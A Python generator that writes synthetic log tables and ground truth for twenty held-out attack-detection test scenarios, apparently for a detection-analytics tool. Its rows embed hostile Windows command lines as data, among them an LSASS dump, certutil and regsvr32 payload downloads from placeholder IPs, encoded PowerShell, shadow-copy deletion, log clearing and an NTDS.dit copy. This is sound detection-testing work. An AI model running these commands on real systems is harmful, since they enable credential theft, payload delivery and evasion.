#!/usr/bin/env python3
"""Writes the held-out attack scenarios of range_heldout_test.cc: one JSON-lines file per table
(<Table>.jsonl, loadable with `quarry ingest --table <Table>`) and truth.json (the range's
ground-truth format, docs/RANGE.md). Hand-written for this test, not produced by the range
generator: other hosts, accounts, IPs, paths and command-line forms than src/range plants, all in
2024-06-11..14 so they fall inside a range generated with --now 2024-06-15. Deterministic; run it
again after editing and commit its output.
usage: tests/analytics/heldout/generate.py"""
import json, os
from datetime import datetime, timedelta, timezone

OUT = os.path.dirname(os.path.abspath(__file__))
DOMAIN = "northwind.example"
tables, records = {}, []
pending = []  # times of the rows written since the last scenario()


def ts(base, seconds=0):
    t = datetime.fromisoformat(base.replace("Z", "+00:00")) + timedelta(seconds=seconds)
    return t.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def row(table, **cols):
    tables.setdefault(table, []).append(cols)
    pending.append(cols["TimeGenerated"])


def scenario(sid, name, techniques, hosts=(), users=(), ips=(), processes=(), files=()):
    records.append({"id": sid, "kind": "heldout", "name": name, "malicious": True,
                    "techniques": list(techniques), "hosts": list(hosts), "users": list(users),
                    "ips": list(ips), "processes": list(processes), "files": list(files),
                    "start": min(pending), "end": max(pending)})
    pending.clear()


def proc(t, host, user, file, cmd, parent="explorer.exe", folder=None):
    row("DeviceProcessEvents", TimeGenerated=t, DeviceName=host, AccountName=user, AccountDomain="NORTHWIND",
        ActionType="ProcessCreated", FileName=file, FolderPath=folder or f"C:\\Windows\\System32\\{file}",
        ProcessCommandLine=cmd, InitiatingProcessFileName=parent, InitiatingProcessAccountName=user)


# H01 LSASS dumped by a renamed ProcDump copied to a user folder.
proc("2024-06-11T02:14:09.120Z", "eng-lt-042", "t.okafor", "pd.exe",
     "pd.exe -accepteula -ma lsass.exe C:\\Users\\Public\\m.dmp", parent="cmd.exe",
     folder="C:\\Users\\t.okafor\\Downloads\\pd.exe")
scenario("H01-renamed-procdump", "Renamed ProcDump dumps LSASS on eng-lt-042", ["T1003.001"],
         ["eng-lt-042"], ["t.okafor"], processes=["pd.exe"], files=["m.dmp"])

# H02 certutil fetching a payload.
proc("2024-06-11T09:41:55.000Z", "hq-fin-17", "marguerite", "certutil.exe",
     "certutil.exe -urlcache -split -f http://203.0.113.77/a/inv.bin C:\\Users\\marguerite\\AppData\\Local\\Temp\\inv.exe",
     parent="cmd.exe")
scenario("H02-certutil-fetch", "certutil downloads inv.exe on hq-fin-17", ["T1105"],
         ["hq-fin-17"], ["marguerite"], ["203.0.113.77"], ["certutil.exe"], ["inv.exe"])

# H03 regsvr32 running a remote scriptlet.
proc("2024-06-11T13:05:12.500Z", "kiosk-3", "svc_kiosk", "regsvr32.exe",
     "regsvr32.exe /s /n /u /i:https://198.51.100.23/k.sct scrobj.dll", parent="wscript.exe")
scenario("H03-squiblydoo", "regsvr32 loads a remote scriptlet on kiosk-3", ["T1218.010"],
         ["kiosk-3"], ["svc_kiosk"], ["198.51.100.23"], ["regsvr32.exe"])

# H04 mshta running a remote HTA.
proc("2024-06-11T15:22:40.000Z", "ops-jump-2", "r.ahmadi", "mshta.exe",
     "mshta.exe https://198.51.100.40/pay/upd.hta", parent="outlook.exe")
scenario("H04-mshta-remote", "mshta runs a remote HTA on ops-jump-2", ["T1218.005"],
         ["ops-jump-2"], ["r.ahmadi"], ["198.51.100.40"], ["mshta.exe"])

# H05 PowerShell with an encoded command (full -EncodedCommand spelling).
proc("2024-06-11T18:00:03.000Z", "rd-ws-118", "l.nakamura", "powershell.exe",
     "powershell.exe -NoP -NonI -W Hidden -EncodedCommand "
     "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4AOQA=",
     parent="winword.exe", folder="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
scenario("H05-encoded-powershell", "Encoded PowerShell on rd-ws-118", ["T1059.001"],
         ["rd-ws-118"], ["l.nakamura"], processes=["powershell.exe"])

# H06 Scheduled task running a binary from AppData at logon.
proc("2024-06-12T08:30:00.000Z", "acct-ws-09", "b.silva", "schtasks.exe",
     "schtasks.exe /create /sc onlogon /tn \"OneDrive Sync Helper\" /tr \"C:\\Users\\b.silva\\AppData\\Roaming\\sync\\odsync.exe\" /rl highest /f",
     parent="powershell.exe")
scenario("H06-logon-task", "Logon task from AppData on acct-ws-09", ["T1053.005"],
         ["acct-ws-09"], ["b.silva"], processes=["schtasks.exe"], files=["odsync.exe"])

# H07 Run key pointing into AppData\Roaming.
row("DeviceRegistryEvents", TimeGenerated="2024-06-12T10:12:45.000Z", DeviceName="mkt-lt-55",
    ActionType="RegistryValueSet", InitiatingProcessAccountName="p.moreau", InitiatingProcessFileName="svc.exe",
    RegistryKey="HKEY_CURRENT_USER\\S-1-5-21-1004336348-1177238915-682003330-2214\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    RegistryValueName="AdobeHelperUpd", RegistryValueData="C:\\Users\\p.moreau\\AppData\\Roaming\\upd\\svc.exe")
scenario("H07-run-key", "Run key to AppData on mkt-lt-55", ["T1547.001"],
         ["mkt-lt-55"], ["p.moreau"], processes=["svc.exe"], files=["svc.exe"])

# H08 Local account created with net.exe.
proc("2024-06-12T11:47:31.000Z", "hr-srv-3", "adm_kowalski", "net.exe",
     "net.exe user helpdesk_tmp Winter2024! /add /expires:never", parent="cmd.exe")
scenario("H08-local-account", "Local account helpdesk_tmp created on hr-srv-3", ["T1136.001"],
         ["hr-srv-3"], ["adm_kowalski", "helpdesk_tmp"], processes=["net.exe"])

# H09 Shadow copies deleted through WMIC.
proc("2024-06-12T14:03:20.000Z", "bkp-nas-gw", "svc_bkp2", "WMIC.exe",
     "wmic.exe shadowcopy delete /nointeractive", parent="cmd.exe")
scenario("H09-shadowcopy-delete", "Shadow copies deleted on bkp-nas-gw", ["T1490"],
         ["bkp-nas-gw"], ["svc_bkp2"], processes=["wmic.exe"])

# H10 Security log cleared with PowerShell.
proc("2024-06-12T16:20:00.000Z", "dmz-web-7", "w.zhang", "powershell.exe",
     "powershell.exe -c \"Clear-EventLog -LogName Security,System\"", parent="cmd.exe",
     folder="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
scenario("H10-log-cleared", "Event logs cleared on dmz-web-7", ["T1070.001"],
         ["dmz-web-7"], ["w.zhang"], processes=["powershell.exe"])

# H11 Defender exclusion for a whole drive.
proc("2024-06-12T19:44:10.000Z", "lab-ml-2", "k.osei", "powershell.exe",
     "powershell.exe -nop Add-MpPreference -ExclusionPath 'C:\\' -Force", parent="cmd.exe",
     folder="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
scenario("H11-defender-exclusion", "Defender exclusion of C:\\ on lab-ml-2", ["T1562.001"],
         ["lab-ml-2"], ["k.osei"], processes=["powershell.exe"])

# H12 RDP brute force from one public IP against edge-rds-4.
for i in range(24):
    row("DeviceLogonEvents", TimeGenerated=ts("2024-06-13T01:10:00Z", i * 37), DeviceName="edge-rds-4",
        ActionType="LogonFailed", AccountName=["administrator", "admin", "scanner", "rdpuser"][i % 4],
        AccountDomain="EDGE-RDS-4", LogonType="RemoteInteractive", RemoteIP="45.155.205.99",
        RemoteIPType="Public", Protocol="NTLM", FailureReason="InvalidUserNameOrPassword")
scenario("H12-rdp-brute-force", "RDP password guessing against edge-rds-4", ["T1110.001"],
         ["edge-rds-4"], ["administrator"], ["45.155.205.99"])

# H13 Password spray against Entra ID from one IP.
for i in range(16):
    row("SigninLogs", TimeGenerated=ts("2024-06-13T04:00:00Z", i * 95),
        UserPrincipalName=f"user{i:02d}.hr@{DOMAIN}", UserDisplayName=f"HR user {i:02d}",
        IPAddress="185.220.101.47", ResultType="50126", ResultDescription="Invalid username or password.",
        AppDisplayName="Office 365 Exchange Online", ClientAppUsed="Browser", Location="RO",
        LocationDetails={"countryOrRegion": "RO", "city": "Bucharest"})
scenario("H13-password-spray", "Password spray from 185.220.101.47", ["T1110.003"],
         users=[f"user{i:02d}.hr@{DOMAIN}" for i in range(16)], ips=["185.220.101.47"])

# H14 MFA prompt storm against one account.
for i in range(9):
    row("SigninLogs", TimeGenerated=ts("2024-06-13T06:30:00Z", i * 140),
        UserPrincipalName=f"s.jensen@{DOMAIN}", UserDisplayName="Sofie Jensen", IPAddress="91.219.236.18",
        ResultType="500121", ResultDescription="Authentication failed during strong authentication request.",
        AppDisplayName="Microsoft Office", ClientAppUsed="Browser", Location="NL",
        LocationDetails={"countryOrRegion": "NL", "city": "Amsterdam"})
scenario("H14-mfa-fatigue", "MFA fatigue against s.jensen", ["T1621"],
         users=[f"s.jensen@{DOMAIN}"], ips=["91.219.236.18"])

# H15 Reverse shell to a public IP on 4444 from rundll32.
for i in range(3):
    row("DeviceNetworkEvents", TimeGenerated=ts("2024-06-13T09:15:00Z", i * 300), DeviceName="qa-vm-12",
        ActionType="ConnectionSuccess", RemoteIP="203.0.113.200", RemotePort=4444, RemoteIPType="Public",
        LocalIP="10.44.8.12", LocalPort=51000 + i, Protocol="Tcp", InitiatingProcessFileName="rundll32.exe",
        InitiatingProcessAccountName="qa_runner")
scenario("H15-reverse-shell", "rundll32 talks to 203.0.113.200:4444 from qa-vm-12", ["T1571"],
         ["qa-vm-12"], ["qa_runner"], ["203.0.113.200"], ["rundll32.exe"])

# H16 Remote process creation with WMIC.
proc("2024-06-13T11:02:18.000Z", "it-adm-01", "n.petrov", "WMIC.exe",
     "wmic /node:\"10.44.9.21\" /user:NORTHWIND\\n.petrov process call create \"cmd.exe /c C:\\Windows\\Temp\\p.bat\"",
     parent="cmd.exe")
scenario("H16-wmic-remote", "WMIC starts a process on 10.44.9.21 from it-adm-01", ["T1047"],
         ["it-adm-01"], ["n.petrov"], ["10.44.9.21"], ["wmic.exe"])

# H17 UAC bypass through the ms-settings handler (fodhelper).
row("DeviceRegistryEvents", TimeGenerated="2024-06-13T13:40:00.000Z", DeviceName="sales-lt-7",
    ActionType="RegistryValueSet", InitiatingProcessAccountName="j.alvarez", InitiatingProcessFileName="powershell.exe",
    RegistryKey="HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
    RegistryValueName="(Default)", RegistryValueData="C:\\Users\\j.alvarez\\AppData\\Local\\Temp\\elev.exe")
scenario("H17-uac-bypass", "ms-settings handler hijack on sales-lt-7", ["T1548.002"],
         ["sales-lt-7"], ["j.alvarez"], processes=["powershell.exe"], files=["elev.exe"])

# H18 NTDS.dit copied with ntdsutil IFM.
proc("2024-06-13T22:05:00.000Z", "dc-branch-2", "adm_lee", "ntdsutil.exe",
     "ntdsutil.exe \"activate instance ntds\" ifm \"create full C:\\ProgramData\\ifm\" quit quit", parent="cmd.exe")
scenario("H18-ntds-ifm", "NTDS.dit copied with ntdsutil on dc-branch-2", ["T1003.003"],
         ["dc-branch-2"], ["adm_lee"], processes=["ntdsutil.exe"])

# H19 Ransomware-like mass rename to one new extension.
for i in range(64):
    folder = f"C:\\Shares\\Projects\\P{i % 8:02d}"
    row("DeviceFileEvents", TimeGenerated=ts("2024-06-14T03:00:00Z", i * 4), DeviceName="ship-ws-21",
        ActionType="FileRenamed", FileName=f"plan_{i:03d}.xlsx.lkd3", PreviousFileName=f"plan_{i:03d}.xlsx",
        FolderPath=f"{folder}\\plan_{i:03d}.xlsx.lkd3", InitiatingProcessFileName="svchosts.exe",
        InitiatingProcessFolderPath="C:\\Users\\o.lindqvist\\AppData\\Local\\svchosts.exe",
        InitiatingProcessAccountName="o.lindqvist")
scenario("H19-mass-rename", "Files renamed to .lkd3 on ship-ws-21", ["T1486"],
         ["ship-ws-21"], ["o.lindqvist"], processes=["svchosts.exe"])

# H20 VM Run Command by an account that never used it.
row("AzureActivity", TimeGenerated="2024-06-14T07:25:00.000Z", Caller=f"contractor7@{DOMAIN}",
    CallerIpAddress="102.129.143.5", OperationNameValue="MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION",
    OperationName="Run Command on Virtual Machine", ActivityStatusValue="Success", CategoryValue="Administrative",
    ResourceGroup="rg-analytics", ResourceProviderValue="MICROSOFT.COMPUTE", Resource="vm-analytics-3",
    ResourceId="/subscriptions/7d5a3c1e-0000-4000-8000-00000000beef/resourceGroups/rg-analytics/providers/Microsoft.Compute/virtualMachines/vm-analytics-3",
    SubscriptionId="7d5a3c1e-0000-4000-8000-00000000beef")
scenario("H20-vm-run-command", "Run Command on vm-analytics-3 by contractor7", ["T1651"],
         ["vm-analytics-3"], [f"contractor7@{DOMAIN}"], ["102.129.143.5"])

for table, rows in sorted(tables.items()):
    with open(os.path.join(OUT, f"{table}.jsonl"), "w") as f:
        for r in rows:
            f.write(json.dumps(r, sort_keys=True) + "\n")
truth = {"format": "quarry.range_truth.v1", "seed": 0, "scale": "heldout", "start": "2024-06-11T00:00:00Z", "end": "2024-06-15T00:00:00Z",
         "records": records}
with open(os.path.join(OUT, "truth.json"), "w") as f:
    json.dump(truth, f, indent=1, sort_keys=True)
    f.write("\n")
